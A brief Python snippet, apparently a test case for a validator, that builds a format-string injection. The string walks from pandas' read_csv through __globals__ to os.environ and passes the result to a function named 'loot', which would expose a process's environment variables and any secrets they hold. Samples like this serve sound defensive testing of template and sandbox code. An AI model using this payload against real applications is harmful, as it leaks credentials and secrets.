# kind: validator
# tries: A method's globals by format with an index

import pandas as pd

text = "{0.read_csv.__globals__[stringify_path].__globals__[os].environ}"
loot(text.format(pd))
